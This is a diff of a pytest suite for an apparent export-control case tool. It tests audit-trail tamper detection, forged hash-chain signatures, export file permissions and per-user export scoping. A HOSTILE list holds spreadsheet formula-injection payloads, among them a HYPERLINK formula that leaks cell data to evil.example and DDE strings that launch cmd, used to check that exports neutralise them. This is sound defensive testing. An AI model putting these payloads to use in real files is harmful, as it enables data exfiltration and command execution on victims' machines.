@@ -174,7 +174,7 @@ def test_newer_schema_is_refused(tmp_path: Path):
 @pytest.mark.parametrize("fmt", ["xlsx", "csv", "json"])
 def test_export_formats(campus: Campus, tmp_path: Path, fmt: str):
     target = tmp_path / f"cases.{fmt}"
-    assert export_cases(campus.store, target, fmt) == 1
+    assert export_cases(campus.store, target, fmt, campus.office) == 1
     if fmt == "xlsx":
         from openpyxl import load_workbook
 
@@ -188,7 +188,7 @@ def test_export_formats(campus: Campus, tmp_path: Path, fmt: str):
             rows = list(csv.DictReader(fh))
         assert rows[0]["状態 / Status"] == "承認（許可不要）"
     else:
-        data = json.loads(target.read_text(encoding="utf-8"))
+        data = json.loads(target.read_text(encoding="utf-8"))["cases"]
         assert data[0]["decision"] == "no_licence_needed"
         assert data[0]["counterpart"] == "Technische Universität Beispiel"
     last = campus.store.db.execute(
@@ -203,3 +203,238 @@ def test_export_cli(campus: Campus, tmp_path: Path, capsys):
     assert main(["export", "--db", str(path), "--format", "json", "-o", str(target)]) == 0
     assert "1 cases written" in capsys.readouterr().out
     assert target.exists()
+
+
+# --- tampering with the records, not only with the log ------------------------------------
+
+EUL_CSV = (
+    "no,country_ja,country_en,name_en,name_original,aliases,concerns,conventional_weapons\n"
+    "1,中国,China,Example Aerospace Institute,例示航空研究所,EAI,M,CW\n"
+    "2,イラン,Iran,Sample Missile Industries,,SMI,M,\n"
+)
+
+
+@pytest.fixture
+def listed(campus: Campus, tmp_path: Path) -> Campus:
+    """The campus with an End User List and a screening threshold recorded."""
+    path = tmp_path / "eul.csv"
+    path.write_text(EUL_CSV, encoding="utf-8")
+    campus.store.eul.import_file(campus.office, path)
+    campus.store.eul.set_threshold(campus.office, 90)
+    assert campus.store.verify_audit().ok, campus.store.verify_audit().problems
+    return campus
+
+
+def _problems_after(c: Campus, sql: str, params=()) -> list[str]:
+    path = c.store.path
+    c.store.close()
+    _tamper(path, sql, params)
+    return _verify(path)
+
+
+@pytest.mark.parametrize(
+    ("sql", "expected"),
+    [
+        (
+            "UPDATE cases SET status = 'approved', decision = 'x' WHERE id = 1",
+            "cases row 1: changed",
+        ),
+        ("UPDATE cases SET outcome = 'no_procedure' WHERE id = 1", "cases row 1: changed"),
+        ("UPDATE approvals SET user_id = 1 WHERE id = 2", "approvals row 2: changed"),
+        ("DELETE FROM approvals WHERE id = 1", "approvals row 1: deleted"),
+        (
+            "INSERT INTO approvals (case_id, round, step, user_id, role, action, at)"
+            " VALUES (1, 1, 'chief', 2, 'chief_manager', 'approve', '2026')",
+            "approvals row 3: not in the audit trail",
+        ),
+        ("INSERT INTO user_roles VALUES (8, 'admin', NULL)", "user_roles row 8/admin/: not in"),
+        ("DELETE FROM user_roles WHERE user_id = 4", "user_roles row 4/chief_manager/: deleted"),
+        ("UPDATE users SET password_hash = 'known' WHERE login = 'chief'", "users row 4: changed"),
+        ("DELETE FROM proxies", "proxies row 9/7: deleted"),
+        ("UPDATE eul_entities SET name_en = 'Harmless Ltd' WHERE no = 1", "eul_entities row 1/1"),
+        ("DELETE FROM eul_entities WHERE no = 2", "eul_entities row 1/2: deleted"),
+        ("UPDATE meta SET value = '100' WHERE key = 'screening_threshold'", "meta row screening"),
+        ("UPDATE institution SET retention_years = 1", "institution row 1: changed"),
+    ],
+)
+def test_direct_edits_of_records_are_named(listed: Campus, sql: str, expected: str):
+    problems = _problems_after(listed, sql)
+    assert any(expected in p for p in problems), problems
+
+
+def test_deleting_the_whole_log_and_head_is_detected(campus: Campus):
+    problems = _problems_after(campus, "DELETE FROM audit_log")
+    path = campus.store.path
+    _tamper(path, "DELETE FROM meta WHERE key LIKE 'audit%'")
+    problems = _verify(path)
+    assert any("cases row 1: not in the audit trail" in p for p in problems)
+    assert any("users row" in p and "not in the audit trail" in p for p in problems)
+
+
+def test_a_recomputed_chain_needs_the_installation_key(campus: Campus, tmp_path: Path):
+    """Edit a case, then rebuild every seal, hash and the head as a forger would, signing
+    with a key of their own: the head's signature gives it away."""
+    from exportdesk.store import audit, keys, seals
+    from exportdesk.store.db import connect
+
+    path = campus.store.path
+    campus.store.close()
+    _tamper(path, "UPDATE cases SET status = 'approved', decision = 'forged' WHERE id = 1")
+    db = connect(path, create=False)
+    rows = db.execute("SELECT * FROM audit_log ORDER BY seq").fetchall()
+    cols = [c[1] for c in db.execute("PRAGMA table_info(audit_log)")]
+    forged_case = dict(seals.whole_database(db)["cases"])
+    prev = audit.GENESIS
+    db.execute("BEGIN")
+    for values in rows:
+        row = dict(zip(cols, values, strict=True))
+        if row["state_json"] and '"cases"' in row["state_json"]:
+            state = json.loads(row["state_json"])
+            state["cases"] = {k: forged_case.get(k, v) for k, v in state["cases"].items()}
+            row["state_json"] = audit.canonical(state)
+        row["prev_hash"] = prev
+        row["hash"] = prev = audit.entry_hash(prev, row)
+        db.execute(
+            "UPDATE audit_log SET state_json = ?, prev_hash = ?, hash = ? WHERE seq = ?",
+            [row["state_json"], row["prev_hash"], row["hash"], row["seq"]],
+        )
+    db.execute(
+        "UPDATE meta SET value = ? WHERE key = 'audit_head'", [json.dumps([row["seq"], prev])]
+    )
+    audit.sign_head(db, keys.load_or_create_key(tmp_path / "forger"))
+    db.execute("COMMIT")
+    db.close()
+    problems = _verify(path)
+    assert problems == [
+        "the head is signed by another key"
+        f" ({keys.fingerprint(keys.public_key_text(keys.load_key(tmp_path / 'forger')))}),"
+        " not this installation's"
+    ]
+    # Without any signature at all it is no better.
+    _tamper(path, "DELETE FROM meta WHERE key = 'audit_head_signed'")
+    assert any("carries no signature" in p for p in _verify(path))
+
+
+def test_attachment_content_swapped_is_detected(campus: Campus):
+    s = campus.store
+    case = s.create_case(campus.prof)
+    info = s.add_attachment(campus.prof, case["id"], "sheet.pdf", b"%PDF original")
+    problems = _problems_after(
+        campus, "UPDATE attachments SET content = ? WHERE id = ?", [b"%PDF swapped", info["id"]]
+    )
+    assert any(f"attachments row {info['id']}: content does not match" in p for p in problems)
+
+
+def test_legitimate_work_of_every_kind_verifies(listed: Campus):
+    """Every store operation seals what it writes, including bookkeeping such as a
+    re-screen that finds the same hits and a failed sign-in."""
+    s = listed.store
+    from exportdesk.store.errors import StoreError
+
+    with pytest.raises(StoreError):
+        s.authenticate("chief", "wrong password!")
+    s.set_language(listed.prof, "en")
+    s.set_roles(listed.admin, listed.prof.id, [("applicant", None)])
+    pid = s.add_person(listed.prof, family_name="Lee", nationality="KR")
+    s.update_person(listed.prof, pid, status="employee")
+    s.declare(listed.prof, pid, declared_on="2026-11-01", categories=[], pledge_signed=True)
+    s.eul.rescreen(listed.office, s.eul.current_version()["id"])
+    result = s.verify_audit()
+    assert result.ok, result.problems
+    assert result.signed_by
+
+
+# --- exports ------------------------------------------------------------------------------
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A2,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
+def test_export_neutralises_formulas(campus: Campus, tmp_path: Path, fmt: str):
+    s = campus.store
+    for name in HOSTILE:
+        case = s.create_case(campus.prof, answers=controlled_answers() | {"counterpart_name": name})
+        s.submit(campus.prof, case["id"])
+    target = tmp_path / f"out.{fmt}"
+    export_cases(s, target, fmt, campus.office)
+    if fmt == "xlsx":
+        from openpyxl import load_workbook
+
+        ws = load_workbook(target).active
+        col = [c.value for c in ws[1]].index("相手方 / Counterpart")
+        cells = [row[col] for row in ws.iter_rows(min_row=3, values_only=True)]
+        kinds = {c.data_type for row in ws.iter_rows() for c in row}
+        assert "f" not in kinds  # no formula cell anywhere
+    else:
+        with target.open(encoding="utf-8-sig", newline="") as fh:
+            rows = [r for r in csv.DictReader(fh) if r["案件番号 / Ref"].startswith("20")]
+        cells = [r["相手方 / Counterpart"] for r in rows[1:]]
+    assert cells == ["'" + name for name in HOSTILE]
+
+
+def test_exports_and_backups_are_owner_only(campus: Campus, tmp_path: Path):
+    import os
+
+    os.umask(0o022)
+    for fmt in ("xlsx", "csv", "json"):
+        target = tmp_path / f"cases.{fmt}"
+        export_cases(campus.store, target, fmt, campus.office)
+        assert target.stat().st_mode & 0o777 == 0o600, fmt
+    from exportdesk.store.maintenance import backup_to
+
+    backup_to(campus.store.db, tmp_path / "copy.db")
+    assert (tmp_path / "copy.db").stat().st_mode & 0o777 == 0o600
+    assert not list(tmp_path.glob(".*.part"))
+
+
+def test_export_shows_only_what_the_user_may_see(campus: Campus, tmp_path: Path):
+    s = campus.store
+    s.create_case(campus.prof_sci, answers={"title": "理学部の下書き"})
+    mine = s.create_case(campus.prof, answers={"title": "自分の下書き"})
+    sci = s.create_case(campus.prof_sci, answers=controlled_answers() | {"title": "理学部"})
+    s.submit(campus.prof_sci, sci["id"])
+
+    def titles(user) -> set[str]:
+        target = tmp_path / f"{user.login}.json"
+        export_cases(s, target, "json", user)
+        return {r["title"] for r in json.loads(target.read_text(encoding="utf-8"))["cases"]}
+
+    first = s.get_case(campus.office, 1)["title"]
+    assert titles(campus.office) == {first, "理学部"}  # no one else's draft
+    assert titles(campus.prof) == {first, "自分の下書き"}
+    assert titles(campus.manager_sci) == {"理学部"}
+    assert mine["id"]
+
+
+def test_export_to_a_full_or_read_only_place_leaves_nothing(campus: Campus, tmp_path: Path):
+    from exportdesk.store.errors import StoreError
+
+    with pytest.raises(StoreError) as err:
+        export_cases(campus.store, Path("/dev/full"), "json", campus.office)
+    assert err.value.code in ("disk_full", "cannot_write")
+    locked = tmp_path / "locked"
+    locked.mkdir()
+    locked.chmod(0o500)
+    try:
+        if os_access_ignores_modes():
+            pytest.skip("running as root: a read-only folder is writable")
+        with pytest.raises(StoreError) as err:
+            export_cases(campus.store, locked / "x.csv", "csv", campus.office)
+        assert err.value.code == "cannot_write" and err.value.ja
+        assert list(locked.iterdir()) == []
+    finally:
+        locked.chmod(0o700)
+
+
+def os_access_ignores_modes() -> bool:
+    import os
+
+    return os.geteuid() == 0
